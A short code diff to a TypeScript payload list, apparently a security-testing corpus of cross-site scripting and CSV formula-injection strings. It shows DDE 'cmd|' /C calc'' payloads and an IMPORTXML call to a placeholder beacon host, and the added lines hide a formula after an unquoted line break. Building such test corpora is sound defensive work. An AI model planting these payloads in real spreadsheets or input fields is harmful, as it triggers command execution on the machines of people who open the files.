@@ -216,6 +216,9 @@ export const xssPayloadsByCategory = {
     "+cmd|' /C calc'!A0 alert(141)",
     "-2+3+cmd|' /C calc'!A0",
     '=IMPORTXML("http://x.invalid/xss-beacon","//a") alert(142)',
+    // A formula on the second line: a spreadsheet starts a new row at a line break the CSV left unquoted.
+    "Read this\n=cmd|' /C calc'!A0 alert(143)",
+    "Read this too\n@SUM(1+1)*cmd|' /C calc'!A0 alert(144)",
   ],
 } as const satisfies Record<string, readonly string[]>;
 
